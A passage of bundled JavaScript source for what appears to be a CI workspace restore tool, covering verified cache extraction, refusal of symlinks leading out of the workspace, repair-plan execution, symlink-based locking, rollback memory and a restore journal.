 * streamed into it under the entry's signed expectations (extract.ts), the scratch copy proven
 * (while extracting, or by the verifier when nothing per-file is recorded), and only then placed
 * (place.ts). A refused archive leaves the workspace as it was and says why in one line.
 */









/** Trees recorded without an index (imported from format 2) have no byte count: this bounds them. */
const LOOSE_TREE_MAX_BYTES = 16 * 1024 * 1024 * 1024;
const LOOSE_TREE_MAX_MEMBERS = 2_000_000;
function expectationOf(e, ctx) {
    switch (e.kind) {
        case 'file':
            return {
                kind: 'file',
                size: e.expect.size,
                sha256: e.expect.sha256,
                mode: parseMode(e.expect.mode)
            };
        case 'blob':
            return { kind: 'bounded', maxMembers: 1, maxBytes: e.expect.size, single: true };
        case 'link':
            return { kind: 'bounded', maxMembers: 1, maxBytes: 0, single: true };
        case 'tree': {
            const records = e.expect.index ? ctx.readIndex(e.id, e.expect.index) : undefined;
            if (records)
                return { kind: 'indexed', records, ignore: e.ignore };
            const files = e.expect.max_files ?? e.expect.files;
            return {
                kind: 'bounded',
                // Directories are members too: allow as many again, plus a margin.
                maxMembers: files !== undefined ? files * 2 + 64 : LOOSE_TREE_MAX_MEMBERS,
                maxBytes: LOOSE_TREE_MAX_BYTES,
                single: false
            };
        }
    }
}
const PROVEN = 'restored from the cache, every byte verified while extracting';
/**
 * The findings made by a verifying extraction, by identity: the final check takes them as they
 * are instead of reading the placed entry again (a finding's text is for people, not a flag).
 */
const provenFindings = new WeakSet();
/** A finding made by a verifying extraction (not by reading the placed entry again). */
function isProven(f) {
    return f !== undefined && provenFindings.has(f);
}
function provenFinding(e, files, bytes) {
    const f = {
        id: e.id,
        kind: e.kind,
        path: e.path,
        tier: e.tier,
        status: 'OK',
        reason: 'ok',
        detail: `${PROVEN} (${files} files, ${bytes} bytes)`,
        recorded: {},
        found: { files, bytes },
        cached: false
    };
    provenFindings.add(f);
    return f;
}
/** How a restore says that modes from the archive were masked. */
function maskedNote(n) {
    return `setuid, setgid, sticky and world-writable bits dropped from ${n} member${n === 1 ? '' : 's'}`;
}
function reasonOf(err) {
    if (err instanceof Rejected)
        return err.message;
    const e = err;
    return `${e.code ?? 'error'}: ${(e.message ?? String(err)).split('\n')[0]}`;
}
async function restoreEntry(e, archive, ctx) {
    const scratch = makeScratch(ctx.scratchBase, 'swr-restore');
    try {
        const root = external_node_path_default().join(scratch, 'w');
        const dest = resolveEntryPath(root, e.path);
        external_node_fs_default().mkdirSync(external_node_path_default().dirname(dest), { recursive: true, mode: 0o700 });
        const extractor = new EntryExtractor(archive.prefix, dest, expectationOf(e, ctx));
        try {
            await unpack(await archive.open(), archive.compression, extractor);
        }
        finally {
            extractor.abort();
        }
        const summary = extractor.finish();
        let finding;
        if (summary.proven)
            finding = provenFinding(e, summary.files, summary.bytes);
        else {
            const f = await ctx.verifyAt(root, e);
            if (f.status !== 'OK')
                throw new Rejected(`${f.status}: ${f.detail}${summary.masked ? ` (${maskedNote(summary.masked)})` : ''}`);
        }
        place(ctx.workspace, dest, resolveEntryPath(ctx.workspace, e.path));
        return {
            placed: true,
            finding,
            members: summary.members,
            bytes: summary.bytes,
            masked: summary.masked
        };
    }
    catch (err) {
        return { placed: false, reason: reasonOf(err) };
    }
    finally {
        removeScratch(scratch);
    }
}

;// CONCATENATED MODULE: ./src/core/restore/outside-links.ts
/**
 * A symlink planted above an entry (`bin -> /elsewhere` for the entry `bin/tool`) would carry any
 * restore through it: swr's own writes refuse such a parent, but a recipe's shell follows it and
 * writes outside the workspace. Before any source runs, the entry's parents are looked at: one
 * that is a link leading out of the workspace (or nowhere) stops the entry's restore, naming it.
 *
 * The link is named, not moved: it lies outside the entry, so moving it would change the
 * workspace beyond what the restore is for (untracked paths may rely on it), and only a person can
 * tell a planted link from a setup that needs one. Links that stay inside the workspace are left
 * to the usual rules (swr's writes refuse them, a recipe writes inside the workspace).
 */



/**
 * The first parent of `entryPath` (below `workspace`) that is a link leaving it, if any; with
 * `itself`, the entry's own path too (an entry that is not a link, found as a link leading out: a
 * recipe's `> bin/tool` would write through it).
 */
function parentLinkOutside(workspace, entryPath, itself = false) {
    if (entryPath === '.')
        return undefined;
    const real = external_node_fs_default().realpathSync(workspace);
    const parts = entryPath.split('/');
    let at = workspace;
    for (let i = 0; i < parts.length - (itself ? 0 : 1); i++) {
        at = external_node_path_default().join(at, parts[i]);
        const st = external_node_fs_default().lstatSync(at, { throwIfNoEntry: false });
        if (!st)
            return undefined;
        if (!st.isSymbolicLink()) {
            if (!st.isDirectory())
                return undefined;
            continue;
        }
        let resolved;
        try {
            resolved = external_node_fs_default().realpathSync(at);
        }
        catch {
            // A dangling parent cannot be judged; a dangling entry is judged by where it points.
            resolved = i === parts.length - 1 ? outside_links_danglingTarget(at) : undefined;
        }
        if (resolved === undefined || !inside_isInside(real, resolved))
            return { rel: parts.slice(0, i + 1).join('/'), target: targetOf(at) };
    }
    return undefined;
}
/** Where a dangling link would lead, its directory resolved (undefined when that fails too). */
function outside_links_danglingTarget(abs) {
    try {
        return external_node_path_default().resolve(external_node_fs_default().realpathSync(external_node_path_default().dirname(abs)), external_node_fs_default().readlinkSync(abs));
    }
    catch {
        return undefined;
    }
}
/** The link's target, or a word saying it changed while it was looked at. */
function targetOf(abs) {
    try {
        return external_node_fs_default().readlinkSync(abs);
    }
    catch {
        return '(changed while read)';
    }
}

;// CONCATENATED MODULE: ./src/core/restore/runner.ts
/**
 * Carrying out a repair plan: wave by wave (steps of a wave in parallel up to `jobs`), each step
 * from its sources in the order sources.ts gives (escrow, the saved state, then the manifest's),
 * each restored entry re-verified at once without the cache. A step whose dependency did not heal is SKIPPED, never attempted. The caller must have
 * asked the gate first; this module refuses to run without an allowed decision.
 */















async function runPlan(opts) {
    if (!opts.gate.allowed)
        throw new InternalError('runPlan called without an allowed gate decision');
    const entries = new Map(opts.manifest.body.entries.map(e => [e.id, e]));
    const results = new Map();
    const limit = (0,p_limit/* default */.A)(Math.max(1, opts.jobs ?? 1));
    for (const wave of opts.plan.waves) {
        await Promise.all(wave.map(step => limit(async () => {
            const entry = entries.get(step.id);
            if (!entry)
                throw new InternalError(`plan names unknown entry ${step.id}`);
            const r = await runStep(step, entry, results, opts);
            results.set(step.id, r);
            opts.journal?.append({
                id: r.id,
                outcome: r.outcome,
                at: (opts.now?.() ?? new Date()).toISOString()
            });
            opts.onStep?.(r);
        })));
    }
    return planSteps(opts.plan).map(s => results.get(s.id));
}
/** Quarantine is evidence-keeping: failing to copy must not stop the repair, only be reported. */
function safeQuarantine(entry, opts) {
    if (!opts.quarantine)
        return undefined;
    try {
        return quarantine(opts.manifest.workspace, opts.quarantine.stateDir, entry, opts.now?.() ?? new Date(), opts.quarantine);
    }
    catch (err) {
        return {
            skipped: `copy failed: ${err instanceof Error ? (err.code ?? err.message) : String(err)}`
        };
    }
}
async function runStep(step, entry, done, opts) {
    const base = { id: step.id, source: step.source };
    if (opts.abort?.aborted)
        return { ...base, outcome: 'interrupted', detail: 'not started: interrupted', attempts: [] };
    const failedDep = step.after.find(d => {
        const o = done.get(d)?.outcome;
        return o !== 'repaired' && o !== 'already-repaired';
    });
    if (failedDep)
        return { ...base, outcome: 'skipped', detail: `dependency failed: ${failedDep}`, attempts: [] };
    if (opts.alreadyRepaired?.has(step.id)) {
        const [after] = await opts.reverify([entry]);
        if (after?.status === 'OK')
            return {
                ...base,
                outcome: 'already-repaired',
                detail: 'repaired by the interrupted run',
                after,
                attempts: []
            };
    }
    const sources = sourcesOf(entry, { savedState: opts.cache !== undefined });
    if (sources.length === 0)
        return {
            ...base,
            outcome: 'unrepairable',
            detail: 'no restore source (recipe, cache or escrow)',
            attempts: []
        };
    const q = opts.quarantine ? safeQuarantine(entry, opts) : undefined;
    const planted = parentLinkOutside(opts.manifest.workspace, entry.path, entry.kind !== 'link');
    if (planted)
        return {
            ...base,
            outcome: 'failed',
            detail: `not restored: ${shown(planted.rel)} is a symbolic link out of the workspace (-> ${shown(planted.target)}); every source would write through it: remove it and run again`,
            attempts: [],
            ...(q ? { quarantine: q } : {})
        };
    const attempts = [];
    let recipe;
    let after;
    let ranCleanly = false;
    for (const src of sources) {
        const tried = await trySource(src, entry, opts);
        if (tried.recipe)
            recipe = tried.recipe;
        if (tried.attempt.outcome === 'interrupted') {
            attempts.push(tried.attempt);
            return {
                ...base,
                outcome: 'interrupted',
                detail: tried.attempt.detail,
                attempts,
                ...(recipe ? { recipe } : {}),
                ...(q ? { quarantine: q } : {})
            };
        }
        if (tried.attempt.outcome === 'miss' ||
            tried.attempt.outcome === 'failed' ||
            tried.attempt.outcome === 'skipped' ||
            tried.attempt.outcome === 'not-healed') {
            // A refused cache archive never reached the workspace: nothing to re-verify.
            attempts.push(tried.attempt);
            continue;
        }
        // An archive proven byte by byte while it was extracted needs no second read.
        ;
        [after] = tried.proven ? [tried.proven] : await opts.reverify([entry]);
        const healed = after?.status === 'OK';
        ranCleanly ||= src.kind === 'recipe';
        attempts.push({
            ...tried.attempt,
            outcome: healed ? 'healed' : 'not-healed',
            ...(healed
                ? {}
                : {
                    detail: `${tried.attempt.detail}, but still ${after?.status ?? 'damaged'}: ${after?.detail ?? ''}`
                })
        });
        if (healed) {
            return {
                id: step.id,
                source: src.kind,
                outcome: 'repaired',
                detail: tried.attempt.detail,
                attempts,
                ...(after ? { after } : {}),
                ...(recipe ? { recipe } : {}),
                ...(q ? { quarantine: q } : {})
            };
        }
    }
    const last = attempts[attempts.length - 1];
    return {
        ...base,
        outcome: ranCleanly ? 'still-damaged' : 'failed',
        detail: attempts.length > 1
            ? attempts.map(a => `${a.source}: ${a.detail}`).join('; ')
            : (last?.detail ?? ''),
        attempts,
        ...(after ? { after } : {}),
        ...(recipe ? { recipe } : {}),
        ...(q ? { quarantine: q } : {})
    };
}
/** Scratch below RUNNER_TEMP (private to the job), else the system temp directory. */
function defaultRestore(opts) {
    return {
        scratchBase: opts.callerEnv.RUNNER_TEMP || external_node_os_default().tmpdir(),
        readIndex: (id, ref) => opts.manifest.sealIndexes?.get(id) ?? readIndex(tree_index_indexPath(opts.manifest.file, id), ref),
        verifyAt: async (root, e) => {
            const [f] = await opts.reverifyAt(root, [e]);
            if (!f)
                throw new InternalError(`no finding for ${e.id}`);
            return f;
        }
    };
}
async function trySource(src, entry, opts) {
    const abs = resolveEntryPath(opts.manifest.workspace, entry.path);
    switch (src.kind) {
        case 'escrow':
            if (entry.kind !== 'file')
                return {
                    attempt: { source: 'escrow', outcome: 'failed', detail: 'escrow on a non-file entry' }
                };
            try {
                restoreFromEscrow(opts.manifest.workspace, entry);
                return { attempt: { source: 'escrow', outcome: 'healed', detail: 'restored from escrow' } };
            }
            catch (err) {
                if (!(err instanceof errors_SwrError) && !(err instanceof Error && 'code' in err))
                    throw err;
                return {
                    attempt: {
                        source: 'escrow',
                        outcome: 'failed',
                        detail: err instanceof Error ? err.message : String(err)
                    }
                };
            }
        case 'cache': {
            if (!opts.cache)
                return {
                    attempt: {
                        source: 'cache',
                        outcome: 'skipped',
                        key: src.key,
                        detail: `cache ${src.key} skipped: no Actions cache service here`
                    }
                };
            const hit = await opts.cache.find(abs, src.key, src.restoreKeys);
            if (!hit)
                return {
                    attempt: {
                        source: 'cache',
                        outcome: 'miss',
                        key: src.key,
                        detail: `cache miss for ${src.key}${src.savedState ? ' (saved state)' : ''}`
                    }
                };
            const how = `cache ${hit.exact ? 'exact hit' : `restore-keys prefix hit ${hit.matchedKey}`}${src.savedState ? ' (saved state)' : ''}`;
            const r = await restoreEntry(entry, hit, {
                workspace: opts.manifest.workspace,
                ...(opts.cacheRestore ?? defaultRestore(opts))
            });
            const base = {
                source: 'cache',
                key: src.key,
                matchedKey: hit.matchedKey,
                exact: hit.exact
            };
            if (!r.placed)
                return {
                    attempt: { ...base, outcome: 'not-healed', detail: `${how} rejected: ${r.reason}` }
                };
            return {
                attempt: {
                    ...base,
                    outcome: 'healed',
                    detail: r.masked ? `${how} (${maskedNote(r.masked)})` : how
                },
                ...(r.finding ? { proven: r.finding } : {})
            };
        }
        case 'recipe': {
            const timeoutS = opts.timeoutS ?? entry.timeout_s ?? signed_command_RECIPE_TIMEOUT_S;
            const result = await signed_command_runSignedCommand({
                entry,
                command: src.command,
                shell: opts.manifest.body.shell,
                cwd: opts.manifest.workspace,
                timeoutMs: timeoutS * 1000
            }, {
                gate: opts.gate,
                callerEnv: opts.callerEnv,
                secretScan: await secret_scan_loadSecretScan(),
                abort: opts.abort,
                onLine: opts.onLine
            });
            const { id: _id, ...recipe } = result;
            const how = `recipe ${recipe_describeResult(result, timeoutS * 1000)}`;
            if (result.interrupted)
                return { recipe, attempt: { source: 'recipe', outcome: 'interrupted', detail: how } };
            if (result.timedOut || result.exitCode !== 0)
                return { recipe, attempt: { source: 'recipe', outcome: 'failed', detail: how } };
            return { recipe, attempt: { source: 'recipe', outcome: 'healed', detail: how } };
        }
    }
}

;// CONCATENATED MODULE: ./src/core/state/lock.ts
/**
 * One exclusive lock per subject, in the private state directory: the manifest file (serialises
 * doctor/restore and every manifest-editing command; taken before the manifest is read, so keyed
 * by its path) and the workspace (so two manifests describing one directory never run recipes in
 * it at once). A waiting run says so once and gives up after a bounded time.
 *
 * The lock is a symbolic link, `locks/<key>.lock`, whose target is its holder's note ("pid P host
 * H start S since T id R"). symlink(2) creates the link and its note in one step and fails when the
 * link exists, so there is never a lock without its note, and the random id makes each note name
 * one generation of the lock only.
 *
 * Staleness is decided by whether the holder lives, not by how recently it refreshed: a holder on
 * this host whose process is alive (its pid answers signal 0 and its start time is the one it
 * recorded, so a reused pid does not count) keeps the lock however long its event loop is busy. A
 * dead holder whose recipe still runs (its process group, recorded beside the note while a recipe
 * runs) keeps it too, until that group has ended. Only a lock whose note cannot be judged (another
 * host, or a directory left by an older swr) falls back to the refresh time (`staleMs`).
 *
 * Taking over a stale lock is a compare-and-remove that one process wins: a waiter first creates
 * the generation's guard (another link, named after the note, created only if absent), checks
 * that the lock still holds that note, removes it and lets go of the guard; then it competes for
 * the lock like every other waiter. Nothing but the guard's holder can remove a dead holder's lock,
 * so no waiter ever removes a lock another waiter has just taken. Losing the lock anyway (its link
 * removed, as a wipe of the state directory does, or taken over) is reported through `onLost`.
 */









/**
 * One spelling per file: symlinked paths to the same manifest must take the same lock (and the
 * same rollback memory). A file not created yet is spelled through its directory's real path.
 */
function canonicalPath(subject) {
    const abs = external_node_path_default().resolve(subject);
    try {
        return external_node_fs_default().realpathSync(abs);
    }
    catch {
        try {
            return external_node_path_default().join(external_node_fs_default().realpathSync(external_node_path_default().dirname(abs)), external_node_path_default().basename(abs));
        }
        catch {
            return abs;
        }
    }
}
const lock_sleep = (ms) => new Promise(r => setTimeout(r, ms));
const REFRESH_MS = 2000;
const POLL_MS = 150;
async function lockWorkspace(opts) {
    try {
        return await acquire(opts);
    }
    catch (err) {
        throw lockError(err, opts.subject);
    }
}
/**
 * Run `fn` holding the lock on `opts.subject`, released however `fn` ends. A lock lost while held
 * (the state directory wiped mid-run) ends the run with EXIT.CONFLICT and one line, even when what
 * `fn` did next failed for that reason (a journal in a wiped state directory).
 */
async function lock_withLock(opts, fn) {
    let lost;
    const { label, onLost, ...lock } = opts;
    const release = await lockWorkspace({
        ...lock,
        onLost: why => {
            lost = `lost the lock on ${label ?? opts.subject}: ${why}`;
            onLost?.(lost);
        }
    });
    try {
        let result;
        try {
            result = await fn();
        }
        catch (err) {
            if (lost)
                throw new errors_SwrError(lost, errors_EXIT.CONFLICT);
            throw err;
        }
        if (lost)
            throw new errors_SwrError(lost, errors_EXIT.CONFLICT);
        return result;
    }
    finally {
        await release();
    }
}
async function acquire(opts) {
    const dir = state_dir_ensurePrivateDir(opts.stateDir, 'locks');
    const key = (0,external_node_crypto_.createHash)('sha256').update(canonicalPath(opts.subject)).digest('hex').slice(0, 32);
    const p = { stateDir: opts.stateDir, dir, key, lock: external_node_path_default().join(dir, `${key}.lock`) };
    const staleMs = opts.staleMs ?? 10_000;
    const note = newNote();
    const deadline = Date.now() + opts.waitMs;
    let warned = false;
    for (;;) {
        if (create(p, note))
            return hold(p, note, opts);
        const seen = look(p.lock);
        // Let go of between our attempt and our look: try again at once.
        if (seen === undefined)
            continue;
        const verdict = judge(p, seen, staleMs);
        if (verdict.stale && removeStale(p, seen, staleMs))
            continue;
        if (opts.abort?.aborted)
            throw new errors_SwrError(`interrupted while waiting for the lock on ${opts.subject}`, errors_EXIT.INTERRUPTED);
        if (Date.now() >= deadline) {
            throw new errors_SwrError(`${opts.subject} is locked by another swr run (${verdict.holder}); gave up after ${Math.round(opts.waitMs / 1000)} s`, errors_EXIT.UNREPAIRABLE);
        }
        if (!warned) {
            opts.onWait?.(verdict.holder);
            warned = true;
        }
        await lock_sleep(POLL_MS);
    }
}
/** Take the lock if it is free: true when this call created it. */
function create(p, note, again = true) {
    try {
        external_node_fs_default().symlinkSync(note, p.lock);
        return true;
    }
    catch (err) {
        if (code(err) === 'EEXIST')
            return false;
        if (code(err) !== 'ENOENT' || !again)
            throw err;
    }
    // The state directory was removed meanwhile: make it again, once.
    state_dir_ensurePrivateDir(p.stateDir, 'locks');
    return create(p, note, false);
}
/**
 * Hold the lock: keep its refresh time current (for a waiter on another host), record the process
 * groups of the recipes this process runs, notice a lock lost, and let go of it on release or exit
 * (an interrupt ends swr with process.exit).
 */
function hold(p, note, opts) {
    const groups = besideNote(p, note, 'groups');
    const unwatch = watchGroups(g => recordGroups(groups, g));
    const timer = setInterval(() => {
        let now;
        try {
            now = external_node_fs_default().readlinkSync(p.lock);
        }
        catch (err) {
            if (code(err) === 'ENOENT')
                lose('its file in the state directory was removed');
            else if (code(err) === 'EINVAL')
                lose('another process took it over');
            return;
        }
        if (now !== note)
            return lose('another process took it over');
        const t = new Date();
        try {
            external_node_fs_default().lutimesSync(p.lock, t, t);
        }
        catch {
            // Only a waiter on another host reads the refresh time; the next tick tries again.
        }
    }, REFRESH_MS);
    timer.unref();
    const lose = (why) => {
        clearInterval(timer);
        opts.onLost?.(why);
    };
    let released = false;
    const letGo = () => {
        if (released)
            return;
        released = true;
        clearInterval(timer);
        unwatch();
        process.removeListener('exit', letGo);
        try {
            // The record first: killed between the two, swr leaves a dead note with nothing beside it.
            external_node_fs_default().rmSync(groups, { force: true });
            removeIfStill(p, p.lock, note, Infinity);
        }
        catch {
            // A lock that cannot be removed (its directory gone) is nothing to let go of.
        }
    };
    process.once('exit', letGo);
    return () => Promise.resolve(letGo());
}
/** The lock as it is now, without following it; undefined when there is none. */
function look(file) {
    try {
        const st = external_node_fs_default().lstatSync(file);
        if (!st.isSymbolicLink())
            return { note: undefined, mtimeMs: st.mtimeMs };
        return { note: external_node_fs_default().readlinkSync(file), mtimeMs: st.mtimeMs };
    }
    catch (err) {
        if (code(err) === 'ENOENT')
            return undefined;
        throw err;
    }
}
function judge(p, seen, staleMs) {
    const shown = seen.note === undefined ? 'holder unknown' : display(seen.note);
    const alive = seen.note === undefined ? undefined : holderAlive(seen.note);
    if (alive === true)
        return { stale: false, holder: shown };
    if (alive === false) {
        const group = recipeRunning(besideNote(p, seen.note, 'groups'));
        if (group === undefined)
            return { stale: true, holder: shown };
        return {
            stale: false,
            holder: `${shown}; gone, but its recipe still runs in process group ${group}`
        };
    }
    return { stale: Date.now() - seen.mtimeMs >= staleMs, holder: shown };
}
function removeStale(p, seen, staleMs) {
    if (seen.note === undefined) {
        // A directory an older swr left (its refresh long past): rmdir never removes a link, so a
        // lock taken meanwhile is safe from it.
        try {
            external_node_fs_default().rmdirSync(p.lock);
        }
        catch {
            return false;
        }
        external_node_fs_default().rmSync(external_node_path_default().join(p.dir, `${p.key}.holder`), { force: true });
        return true;
    }
    if (!removeIfStill(p, p.lock, seen.note, staleMs))
        return false;
    external_node_fs_default().rmSync(besideNote(p, seen.note, 'groups'), { force: true });
    return true;
}
/**
 * Remove the link `file` if its note is still `note`; true when this call removed it. The guard
 * named after the note is taken first, and only one process can create it: the note's generation
 * cannot be removed by anyone else meanwhile, and the note never comes back once removed, so the
 * check and the removal act on the same generation. A guard whose creator was killed between
 * the two is removed the same way, one level up.
 */
function removeIfStill(p, file, note, staleMs) {
    const guard = besideNote(p, note, 'take');
    try {
        external_node_fs_default().symlinkSync(newNote(), guard);
    }
    catch (err) {
        if (code(err) !== 'EEXIST')
            throw err;
        const other = look(guard);
        if (other?.note !== undefined && guardStale(other, staleMs))
            removeIfStill(p, guard, other.note, staleMs);
        return false;
    }
    try {
        if (readNote(file) !== note)
            return false;
        external_node_fs_default().unlinkSync(file);
        return true;
    }
    finally {
        external_node_fs_default().rmSync(guard, { force: true });
    }
}
/** A guard is held for a few system calls: one whose creator is gone, or that is old, is left over. */
function guardStale(seen, staleMs) {
    const alive = seen.note === undefined ? undefined : holderAlive(seen.note);
    return alive === false || (alive === undefined && Date.now() - seen.mtimeMs >= staleMs);
}
function readNote(file) {
    try {
        return external_node_fs_default().readlinkSync(file);
    }
    catch {
        return undefined;
    }
}
/** The file beside the lock that belongs to the generation `note` names. */
function besideNote(p, note, ext) {
    const tag = (0,external_node_crypto_.createHash)('sha256').update(note).digest('hex').slice(0, 16);
    return external_node_path_default().join(p.dir, `${p.key}.${tag}.${ext}`);
}
/**
 * Record the running recipe groups as "pgid start,pgid start": a link again, made beside and
 * renamed into place, so the record is whole the moment it exists and costs no fsync (it must be
 * there before a kill of swr can come, and is worth nothing after a reboot).
 */
function recordGroups(file, groups) {
    try {
        if (groups.length === 0)
            return external_node_fs_default().rmSync(file, { force: true });
        const tmp = `${file}.${(0,external_node_crypto_.randomBytes)(6).toString('hex')}.tmp`;
        external_node_fs_default().symlinkSync(groups.map(g => `${g.pgid} ${g.start ?? '-'}`).join(','), tmp);
        external_node_fs_default().renameSync(tmp, file);
    }
    catch {
        // The state directory gone: the refresh reports the lock lost; the recipe must not fail here.
    }
}
/** The first recorded recipe process group that still runs. */
function recipeRunning(file) {
    for (const entry of readNote(file)?.split(',') ?? []) {
        const m = /^(\d+) (\d+|-)$/.exec(entry);
        if (m && groupRuns(Number(m[1]), m[2] === '-' ? undefined : m[2]))
            return Number(m[1]);
    }
    return undefined;
}
let ownStart = null;
function newNote() {
    if (ownStart === null)
        ownStart = startTime(process.pid);
    const start = ownStart ? ` start ${ownStart}` : '';
    const id = (0,external_node_crypto_.randomBytes)(6).toString('hex');
    return `pid ${process.pid} host ${external_node_os_default().hostname()}${start} since ${new Date().toISOString()} id ${id}`;
}
/** The note on one line without its generation id, for a person. */
function display(note) {
    return note
        .replace(/\s+/g, ' ')
        .trim()
        .replace(/ id [0-9a-f]+$/, '');
}
/** Whether the process that wrote `note` runs on this host now (undefined: cannot tell). */
function holderAlive(note) {
    const m = /^pid (\d+) host (\S+)(?: start (\d+))?/.exec(note);
    if (!m || m[2] !== external_node_os_default().hostname())
        return undefined;
    return processRuns(Number(m[1]), m[3]);
}
function code(err) {
    return err?.code;
}
/** Any failure to take the lock as one line naming its subject, never a raw system error. */
function lockError(err, subject) {
    if (err instanceof errors_SwrError)
        return err;
    const disk = diskError(err, `the lock on ${subject}`);
    if (disk)
        return disk;
    // A system error's message names its call and file ("EEXIST: file already exists, mkdir ...").
    const why = (err instanceof Error ? err.message : String(err)).split('\n')[0];
    return new errors_SwrError(`cannot take the lock on ${subject}: ${why}`, errors_EXIT.WRITE_FAILED);
}

;// CONCATENATED MODULE: ./src/core/sign/version-memory.ts
/**
 * Rollback memory: the highest manifest version this machine has accepted for a manifest, and its
 * digest. An older version is a rollback; the same version with another digest is a fork. CI
 * runners start empty, so there the floor comes from the caller (--min-version / an input).
 *
 * Memory is keyed by the manifest's identity, not by how its path was spelled: the real path
 * (symlinks resolved, so `-m` through a link meets the same memory) and, when the signed scope
 * names both repository and manifest path, that scope (so a second checkout of the repository
 * shares it too). Recall takes the highest version under any of the keys; remember writes all of
 * them. Files written under the older spelled-path key are still read (they are the real-path key
 * whenever the path was spelled without a symlink).
 */






function keyFile(stateDir, identity) {
    const key = (0,external_node_crypto_.createHash)('sha256').update(identity).digest('hex').slice(0, 32);
    return external_node_path_default().join(stateDir, 'versions', `${key}.json`);
}
/** Every memory file that speaks for this manifest; the first is the real-path key. */
function memoryFiles(stateDir, manifestFile, scope) {
    const files = [keyFile(stateDir, canonicalPath(manifestFile))];
    if (scope?.repository !== undefined && scope.manifest_path !== undefined)
        files.push(keyFile(stateDir, `scope\0${scope.repository.toLowerCase()}\0${scope.manifest_path}`));
    return files;
}
function readOne(file) {
    try {
        const v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
        return Number.isSafeInteger(v.version) && /^[0-9a-f]{64}$/.test(v.digest) ? v : undefined;
    }
    catch {
        return undefined;
    }
}
function version_memory_recall(stateDir, manifestFile, scope) {
    // The spelled-path key is read too: memory written before keys were real paths.
    const files = [
        ...memoryFiles(stateDir, manifestFile, scope),
        keyFile(stateDir, external_node_path_default().resolve(manifestFile))
    ];
    let best;
    for (const f of new Set(files)) {
        const v = readOne(f);
        if (v && (!best || v.version > best.version))
            best = v;
    }
    return best;
}
/** Remember an accepted manifest under each of its keys; never lowers what is remembered. */
function version_memory_remember(stateDir, manifestFile, r, scope) {
    const old = version_memory_recall(stateDir, manifestFile, scope);
    if (old && old.version > r.version)
        return;
    try {
        state_dir_ensurePrivateDir(stateDir, 'versions');
        for (const f of memoryFiles(stateDir, manifestFile, scope))
            atomic_writeFileAtomic(f, JSON.stringify(r) + '\n', { mode: 0o600 });
    }
    catch {
        // Memory is a second line of defence; failing to write it must not fail the run.
    }
}

;// CONCATENATED MODULE: ./src/core/state/journal.ts
/**
 * The restore journal: an append-only record of what an interrupted restore already repaired, so
 * `--resume` can continue. One JSON line per event, each appended with a single write and fsynced.
 * A journal written for another manifest digest or workspace is ignored.
 */





function journalPath(stateDir, workspace) {
    const key = (0,external_node_crypto_.createHash)('sha256').update(external_node_path_default().resolve(workspace)).digest('hex').slice(0, 32);
    return external_node_path_default().join(stateDir, 'journal', `${key}.jsonl`);
}
function resumeState(stateDir, workspace, digest) {
    const none = { interrupted: false, repaired: new Set() };
    let lines;
    try {
        lines = external_node_fs_default().readFileSync(journalPath(stateDir, workspace), 'utf8').split('\n').filter(Boolean);
    }
    catch {
        return none;
    }
    let head;
    try {
        head = JSON.parse(lines[0] ?? '');
    }
    catch {
        // An unreadable header says nothing of which run wrote it: not this one's to resume.
        return none;
    }
    if (head?.v !== 1 || head.digest !== digest || head.workspace !== external_node_path_default().resolve(workspace))
        return none;
    const repaired = new Set();
    try {
        for (const line of lines.slice(1)) {
            const e = JSON.parse(line);
            if (e.id === '*' && e.outcome === 'finished')
                return none;
            if (e.outcome === 'repaired')
                repaired.add(e.id);
        }
    }
    catch {
        // A torn last line from a killed run: keep what was read before it.
    }
    return { interrupted: true, repaired };
}
function openJournal(stateDir, workspace, digest, now, resume) {
    state_dir_ensurePrivateDir(stateDir, 'journal');
    const file = journalPath(stateDir, workspace);
    if (!resume || !resumeState(stateDir, workspace, digest).interrupted) {
        const head = {
            v: 1,
            digest,
            workspace: external_node_path_default().resolve(workspace),
            started: now.toISOString()
        };
        atomic_writeFileAtomic(file, JSON.stringify(head) + '\n', { mode: 0o600 });
    }
    const append = (e) => appendRecord(file, JSON.stringify(e) + '\n');
    return {
        file,
        append,
        close: () => append({ id: '*', outcome: 'finished', at: new Date().toISOString() })
    };
}

;// CONCATENATED MODULE: ./src/core/engine/repair.ts
/**
 * restore and doctor as one engine call, shared by the CLI and the Action:
 *
 *   check -> plan -> gate -> run the plan (journal, quarantine) -> re-verify -> report
 *
 * Both re-check the whole selection uncached at the end (restore also re-verifies each step as it
 * runs), so damage a recipe did to another entry is seen and named. The
 * caller hears each phase through hooks (to print, group logs, or stay silent) and gets a report
 * that says what happened and which exit code that means.
 */












/**
 * Sealed entries first: resolved against this machine's seals, and those without a seal for their
 * key made (recipe, smoke, seal) when the gate allows the manifest's code.
 */
async function resolveAndSeal(loaded, opts) {
    let resolved = await withSeals(loaded, opts.stateDir, opts.policy);
    if (opts.dryRun ||
        opts.sealMissing === false ||
        !resolved.states.some(s => s.state === 'unsealed'))
        return { m: resolved.manifest, states: resolved.states, sealing: [] };
    const gate = await gate_decide(gate_gateInput(loaded), opts.policy);
    const sealing = await sealMissing(loaded, resolved.states, {
        stateDir: opts.stateDir,
        gate,
        policy: opts.policy,
        callerEnv: opts.callerEnv,
        timeoutS: opts.timeoutS,
        abort: opts.abort,
        onLine: opts.hooks?.onLine
    });
    if (sealing.some(s => s.outcome === 'sealed'))
        resolved = await withSeals(loaded, opts.stateDir, opts.policy);
    return { m: resolved.manifest, states: resolved.states, sealing };
}
/** A repair's outcome with its sealing steps counted: a seal made repairs, a seal not made fails. */
function withSealing(outcome, sealing) {
    if (outcome !== 'healthy' && outcome !== 'repaired')
        return outcome;
    if (sealing.some(s => s.outcome === 'refused'))
        return 'refused';
    if (sealing.some(s => s.outcome !== 'sealed'))
        return 'unrepairable';
    return sealing.length > 0 ? 'repaired' : outcome;
}
async function repairManifest(loaded, opts) {
    const hooks = opts.hooks ?? {};
    const { m, states, sealing } = await resolveAndSeal(loaded, opts);
    const sealedIds = new Set(states.map(s => s.id));
    const verify = (cache, known) => verifySelection(m, {
        only: opts.only,
        known,
        cache,
        stateDir: opts.stateDir,
        version: opts.version,
        jobs: opts.jobs,
        nativeWalk: opts.nativeWalk
    });
    const reportFor = (c) => reportOf(m, c, { version: opts.version, command: opts.mode });
    const first = await verify(opts.cache !== false);
    const before = reportFor(first);
    const plan = planRepair(m.body.entries, first.findings, {
        savedState: opts.cacheClient !== undefined
    });
    hooks.onCheck?.(before, plan);
    const finish = (entriesOutcome, steps, final, gate, harmed = []) => {
        const outcome = withSealing(entriesOutcome, sealing);
        const repair = {
            mode: opts.mode,
